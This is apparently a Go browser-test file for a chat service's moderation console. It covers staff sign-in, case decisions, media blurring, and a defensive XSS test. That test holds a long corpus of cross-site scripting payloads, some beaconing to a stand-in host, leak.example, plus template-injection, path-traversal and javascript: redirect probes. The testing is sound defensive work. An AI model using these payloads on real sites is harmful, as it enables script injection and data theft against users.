package console

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"parley/internal/chat/media"
	"parley/internal/safety"
	"parley/internal/safety/appeal"
	"parley/internal/safety/casefile"
	"parley/internal/safety/decide"
	"parley/internal/store"
	"parley/internal/web/staff"
	"parley/test/browser/browsertest"
)

// signIn signs a member of staff in with password and code, as he does it.
func (w *world) signIn(p *browsertest.Page, m member) {
	w.t.Helper()
	p.Open(w.url + "/signin")
	p.Fill("#name", m.Name)
	p.Fill("#password", password)
	p.Fill("#code", w.code(m.secret))
	p.Follow("form[action='/signin'] button")
	w.clock.Advance(time.Minute)
	if at := p.Location(); !strings.HasSuffix(at, "/queue") && !strings.HasSuffix(at, "/figures") {
		w.t.Fatalf("signing in leads to %s", at)
	}
}

// TestSignInWithKey enrols a security key by a link and signs in with it, and proves again before
// something strong.
func TestSignInWithKey(t *testing.T) {
	w := served(t, staff.Limits{})
	ctx := context.Background()
	_, token, err := w.staff.Add(ctx, staff.Operator, "Key", staff.Admin)
	if err != nil {
		t.Fatal(err)
	}
	p := browsertest.Start(t).Page(t, browsertest.Look{})
	p.Authenticator()
	p.Open(w.url + "/enrol?token=" + token)
	p.Accessible()
	p.Follow("form[data-key-start] button")
	p.Wait("form.who")
	p.Follow("form.who button")
	p.Follow("form[data-key-start] button")
	if !strings.Contains(p.Text("form.who"), "Key") {
		t.Error("nobody is signed in")
	}
	// Ten minutes later a strong action asks again.
	w.clock.Advance(15 * time.Minute)
	p.Open(w.url + "/staff")
	p.Fill("#name", "Somebody new")
	p.Set("#role", "moderator")
	p.Follow("form[action='/staff/add'] button")
	if !p.Has("#prove") {
		t.Fatal("a strong action was done without a fresh proof")
	}
	p.Accessible()
	p.Follow("[data-prove]")
	if !strings.Contains(p.Text("#enrol-link"), "/enrol?token=") {
		t.Error("what was typed before the proof is lost")
	}
}

// TestSignInWithoutScripts signs in, takes a case and decides it with scripts turned off.
func TestSignInWithoutScripts(t *testing.T) {
	w := served(t, staff.Limits{})
	m := w.member(staff.Moderator)
	c := w.report(w.post("buy now"), safety.Spam, "")
	p := browsertest.Start(t).Page(t, browsertest.Look{NoScripts: true})
	w.signIn(p, m)
	p.Follow("form[action='/next'] button")
	p.Follow("a[href$='template=spam']")
	p.Follow("main form button[type=submit]")
	p.Follow("button[value=confirm]")
	if got := w.state(c); got != casefile.Decided {
		t.Errorf("the case is %s", got)
	}
}

// state is how far a case is.
func (w *world) state(c store.Case) (out casefile.State) {
	w.t.Helper()
	err := w.store.View(context.Background(), func(r *store.Reader) error {
		x, err := r.Case(c.Subject, c.ID)
		out = casefile.State(x.State)
		return err
	})
	if err != nil {
		w.t.Fatal(err)
	}
	return out
}

// gone tells whether a post is there no more.
func (w *world) gone(post int64) bool {
	w.t.Helper()
	err := w.store.View(context.Background(), func(r *store.Reader) error {
		_, err := r.Message(w.channel, post)
		return err
	})
	if err != nil && !store.IsNotFound(err) {
		w.t.Fatal(err)
	}
	return err != nil
}

// TestFromReportToEffect goes the whole way: queue, case and template by keys, preview, decision;
// then another person lifts it.
func TestFromReportToEffect(t *testing.T) {
	w := served(t, staff.Limits{})
	m, lead := w.member(staff.Moderator), w.member(staff.Lead)
	post := w.post("send me your code and win")
	c := w.report(post, safety.Harm, "he asks for codes")
	b := browsertest.Start(t)
	p := b.Page(t, browsertest.Look{})
	w.signIn(p, m)
	if got := p.Text("[data-lane=harm] [data-waiting]"); got != "1" {
		t.Errorf("the queue counts %s", got)
	}
	p.PressAndLeave("n")
	if got := p.Text(".capture .item .said"); got != "send me your code and win" {
		t.Errorf("the evidence says %q", got)
	}
	p.Accessible()
	p.PressAndLeave("2")
	p.Accessible()
	if !strings.HasSuffix(p.Location(), casePath(c)+"/decide?template=scam") {
		t.Fatalf("the key of a template leads to %s", p.Location())
	}
	p.Follow("button[data-press='ctrl+enter']")
	p.Accessible()
	if w.gone(post) {
		t.Fatal("the preview did it")
	}
	p.Follow("button[value=confirm]")
	p.Accessible()
	if !w.gone(post) || w.state(c) != casefile.Decided {
		t.Fatalf("the decision has no effect: %s", w.state(c))
	}
	decided := p.Location()

	q := b.Page(t, browsertest.Look{Dark: true})
	w.signIn(q, lead)
	q.Open(decided)
	q.Fill("#purpose", "the author has asked the service")
	q.Follow("form[action$='/look'] button")
	q.Click("summary")
	q.Fill("#decision-lift", "it was a joke among friends")
	q.Follow("form[action$='/lift'] button")
	if w.gone(post) {
		t.Error("what was lifted is not back")
	}
}

// corpus is text that would run, load or leave if it became more than text.
func corpus(mark string) []string {
	call := `xss('` + mark + `')`
	return []string{
		`<script>` + call + `</script>`,
		`"><script>` + call + `</script>`,
		`'><img src=x onerror=` + call + `>`,
		`<img src=x onerror="` + call + `">`,
		`<svg onload=` + call + `>`,
		`<svg><script>` + call + `</script></svg>`,
		`" onfocus="` + call + `" autofocus="`,
		`' onmouseover='` + call + `' x='`,
		`javascript:` + call,
		`<a href="javascript:` + call + `">x</a>`,
		`<iframe srcdoc="<script>parent.` + call + `</script>">`,
		`<iframe src="javascript:parent.` + call + `">`,
		`<object data="data:text/html,<script>` + call + `</script>">`,
		`<embed src="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">`,
		`<meta http-equiv="refresh" content="0;url=javascript:` + call + `">`,
		`<link rel=stylesheet href="//leak.example/` + mark + `">`,
		`<img src="//leak.example/` + mark + `">`,
		`<style>@import url(//leak.example/` + mark + `);</style>`,
		`<form action="//leak.example"><button>x</button></form>`,
		`<base href="//leak.example/">`,
		`</textarea><script>` + call + `</script>`,
		`</title><script>` + call + `</script>`,
		`</option></select><script>` + call + `</script>`,
		`{{.Token}}{{template "layout"}}`,
		`<!--><script>` + call + `</script-->`,
		"\u2028<script>" + call + "</script>",
		`<math><mtext><table><mglyph><style><img src=x onerror=` + call + `>`,
		`<details open ontoggle=` + call + `>`,
		`<video><source onerror=` + call + `></video>`,
		`<body onload=` + call + `>`,
		"<scr\x00ipt>" + call + "</scr\x00ipt>",
		"\u202e<img src=x onerror=" + call + ">\u202c",
		`%3Cscript%3E` + call + `%3C/script%3E`,
		`&lt;script&gt;` + call + `&lt;/script&gt;`,
		`<xml id=x><x><![CDATA[<img src=x onerror=` + call + `>]]></x></xml>`,
		`<input onblur=` + call + ` autofocus><input autofocus>`,
		`<a href="data:text/html,<script>opener.` + call + `</script>" target=_blank>x</a>`,
		`<p style="background:url(//leak.example/` + mark + `)">`,
		`<noscript><p title="</noscript><img src=x onerror=` + call + `>">`,
		`<template><script>` + call + `</script></template><slot onslotchange=` + call + `>`,
		// What files bring along: names, types, comments and pictures that are documents.
		`photo.jpg"><script>` + call + `</script>.png`,
		"invoice\u202egpj.<svg onload=" + call + ">",
		`../../../%2e%2e/<img src=x onerror=` + call + `>.svg`,
		`image/svg+xml"><script>` + call + `</script>`,
		`text/html;charset=utf-7,+ADw-script+AD4-` + call + `+ADw-/script+AD4-`,
		"\u00ff\u00d8\u00ff\u00e1\x00\x60Exif\x00\x00<script>" + call + "</script>",
		`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="` + call + `"/>`,
		`<svg><animate onbegin=` + call + ` attributeName=x dur=1s>`,
		`<svg><foreignObject><iframe src="javascript:parent.` + call + `"></foreignObject></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id='x' onload='` + call + `'/>#x"/></svg>`,
		// Letters that others may take for those of markup, and what hides or turns them.
		"\uff1cscript\uff1e" + call + "\uff1c/script\uff1e",
		"\u2066<\u2069script>" + call + "</script>",
		"<\u200bscript>" + call + "</\u200bscript><script\u00a0x>" + call + "</script>",
		"\u2067\u2067\u2067\u202d<b onmouseover=" + call + ">",
		"\ufeff<script>" + call + "</script>",
		"<img src=x\u2029onerror=" + call + ">",
	}
}

// TestHostileContent puts the corpus wherever people write, and looks at every page on which that
// is shown. A page fails by itself when anything runs, is blocked by its policy, or asks another
// origin.
func TestHostileContent(t *testing.T) {
	w := served(t, staff.Limits{PerHour: 1000, Cases: 1000, Work: 100 * time.Hour})
	lead := w.member(staff.Lead)
	p := browsertest.Start(t).Page(t, browsertest.Look{})
	p.Allow(w.console.MediaURL)
	w.signIn(p, lead)
	all := strings.Join(corpus("all"), "\n")
	for i, hostile := range corpus("one") {
		name := []rune(hostile)
		w.people(string(name[:min(len(name), 60)]), hostile, hostile)
		file := w.file(media.DocumentKind, hostile, hostile, []byte(hostile), nil)
		c := w.report(w.post(hostile+"\n"+all, file), safety.Harm, hostile)
		x, err := w.console.Cases.Claim(context.Background(), c.Subject, c.ID, lead.ID)
		if err != nil {
			t.Fatal(err)
		}
		_, err = w.console.Cases.Note(context.Background(), x.Subject, x.ID,
			safety.Actor{Staff: lead.ID}, hostile, false)
		if err != nil {
			t.Fatal(err)
		}
		if status := p.Open(w.url + casePath(c)); status != 200 {
			t.Fatalf("the case of %q: %d", hostile, status)
		}
		if browsertest.Eval[int](p, `document.querySelectorAll(
			"main :is(script, iframe, object, base, meta, link, style, img)").length`) != 0 {
			t.Errorf("%q became markup", hostile)
		}
		first := strings.ReplaceAll(strings.Fields(hostile)[0], "\x00", "\ufffd")
		if !strings.Contains(p.Text(".capture .item .said"), first) {
			t.Errorf("%q is not shown as it was written", hostile)
		}
		if i%8 == 0 {
			w.hostileDecision(p, c, hostile)
		}
	}
	if got := browsertest.Eval[string](p, `typeof window.xss`); got != "undefined" {
		t.Errorf("something defined xss: %s", got)
	}
}

// hostileDecision decides a case with hostile words, and looks at what shows them.
func (w *world) hostileDecision(p *browsertest.Page, c store.Case, hostile string) {
	w.t.Helper()
	p.Open(w.url + casePath(c) + "/decide?template=scam")
	for _, field := range []string{"#reference", "#facts", "#explanation"} {
		p.Set(field, strings.ReplaceAll(hostile, "\x00", ""))
	}
	p.Follow("button[data-press='ctrl+enter']")
	p.Follow("button[value=again]")
	p.Follow("button[data-press='ctrl+enter']")
	p.Follow("button[value=confirm]")
	for _, at := range []string{"/approvals", "/figures", "/search?words=" + "%22%3E%3Cscript%3E",
		"/queue?done=%3Cscript%3E", "/signin?next=javascript:alert(1)"} {
		p.Open(w.url + at)
	}
}

// png is the smallest picture: one grey point.
const png = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01" +
	"\x08\x00\x00\x00\x00:~\x9bU\x00\x00\x00\nIDATx\x9cch\x00\x00\x00\x82\x00\x81w\xcdr\xb6" +
	"\x00\x00\x00\x00IEND\xaeB`\x82"

// TestVeil: media is blurred and grey, is loaded only while somebody holds, and each time is in the
// audit and counts.
func TestVeil(t *testing.T) {
	w := served(t, staff.Limits{Reveals: 2})
	m := w.member(staff.Moderator)
	photo := w.file(media.PhotoKind, "image/png", "", []byte(png), []byte(png))
	c := w.report(w.post("look", photo), safety.Harm, "")
	p := browsertest.Start(t).Page(t, browsertest.Look{})
	p.Allow(w.console.MediaURL)
	w.signIn(p, m)
	p.PressAndLeave("n")
	if got := p.Location(); !strings.HasSuffix(got, casePath(c)) {
		t.Fatal(got)
	}
	filter := `getComputedStyle(document.querySelector("[data-veil-box] img")).filter`
	if got := browsertest.Eval[string](p, filter); !strings.Contains(got, "blur") ||
		!strings.Contains(got, "grayscale(1)") {
		t.Errorf("the preview is shown with filter %q", got)
	}
	hold := func(kind string) {
		browsertest.Eval[bool](p, fmt.Sprintf(`document.querySelector("[data-hold]")
			.dispatchEvent(new PointerEvent(%q, {bubbles: true}))`, kind))
	}
	for n := 1; n <= 2; n++ {
		hold("pointerdown")
		p.Wait(".veil.held .lifted")
		if got := browsertest.Eval[string](p, filter); strings.Contains(got, "blur") ||
			!strings.Contains(got, "grayscale(1)") {
			t.Errorf("what is held has filter %q", got)
		}
		hold("pointerup")
		if got := browsertest.Eval[string](p, filter); !strings.Contains(got, "blur") {
			t.Errorf("after letting go the filter is %q", got)
		}
	}
	reveals := slices.DeleteFunc(w.done(m.ID), func(a string) bool { return a != staff.Reveal })
	if len(reveals) != 2 {
		t.Errorf("the audit has %d reveals", len(reveals))
	}
	hold("pointerdown")
	p.Wait("[data-veil-problem]:not(:empty)")
	if !strings.Contains(p.Text("[data-veil-problem]"), "enough") {
		t.Errorf("over the limit: %s", p.Text("[data-veil-problem]"))
	}
	hold("pointerup")
	p.Wrong() // the refusal is a failed request, which the browser notes
}

// TestEveryPage looks at the pages of each role on a phone and at a desk: nothing sticks out, and
// nothing is wrong that a machine finds.
func TestEveryPage(t *testing.T) {
	w := served(t, staff.Limits{})
	w.fillDesk()
	pages := map[staff.Role][]string{
		staff.Lead: {
			"/queue", "/queue/harm", "/search?words=x", "/approvals", "/appeals", "/sample",
			"/shift", "/figures", "/told",
		},
		staff.Auditor: {"/audit", "/figures"},
		staff.Admin:   {"/staff", "/audit"},
	}
	b := browsertest.Start(t)
	for role, list := range pages {
		m := w.member(role)
		for _, look := range []browsertest.Look{browsertest.Phone("en"), {}} {
			p := b.Page(t, look)
			p.Open(w.url + "/signin")
			p.Accessible()
			p.Fill("#name", m.Name)
			p.Fill("#password", password)
			p.Fill("#code", w.code(m.secret))
			p.Follow("form[action='/signin'] button")
			w.clock.Advance(time.Minute)
			for _, at := range list {
				if status := p.Open(w.url + at); status != 200 {
					t.Errorf("%s %s: %d", role, at, status)
				}
				p.Fits()
				p.Accessible()
			}
			if role != staff.Lead {
				continue
			}
			p.Open(w.url + "/queue")
			p.Follow("form[action='/next'] button")
			p.Fits()
			p.Accessible()
			at := p.Location()
			for _, page := range []string{"/decide", "/tell"} {
				p.Open(at + page)
				p.Fits()
				p.Accessible()
			}
		}
	}
}

// fillDesk gives every list something to show.
func (w *world) fillDesk() {
	w.t.Helper()
	ctx := context.Background()
	by := w.member(staff.Moderator)
	for i := range 4 {
		w.report(w.post(fmt.Sprintf("post %d with a rather long word: %s", i,
			strings.Repeat("w", 120))), safety.Harm, "a comment")
	}
	c := w.report(w.post("spam"), safety.Spam, "")
	made, err := w.console.Decisions.Decide(ctx, w.draft(c, by, safety.Remove))
	if err != nil {
		w.t.Fatal(err)
	}
	chat := w.allege(safety.Subject{Peer: w.channel, Kind: safety.Chat, Author: author},
		safety.Terms, "")
	if _, err := w.console.Decisions.Decide(ctx, w.draft(chat, by, safety.Terminate)); err != nil {
		w.t.Fatal(err)
	}
	_, err = w.console.Appeals.FileAgainst(ctx, w.channel, made.ID, appeal.Person{User: author},
		"en", "I did not mean it")
	if err != nil {
		w.t.Fatal(err)
	}
	if _, _, err := w.staff.Add(ctx, w.member(staff.Admin).ID, "New", staff.Legal); err != nil {
		w.t.Fatal(err)
	}
}

// draft is a complete decision about a case.
func (w *world) draft(c store.Case, by member, m safety.Measure) decide.Draft {
	return decide.Draft{
		Case: c.ID, Subject: casefile.Subject(c), Ground: safety.Incompatible,
		Reference: "Terms: 1", Explanation: "It is against the terms.", Facts: "It was read.",
		Category: safety.ScamsAndFraud, Measures: []safety.MeasureSpec{{Measure: m}},
		Means:  safety.Means{Decided: safety.NotAutomated},
		Source: safety.OtherNotification, By: safety.Actor{Staff: by.ID},
	}
}
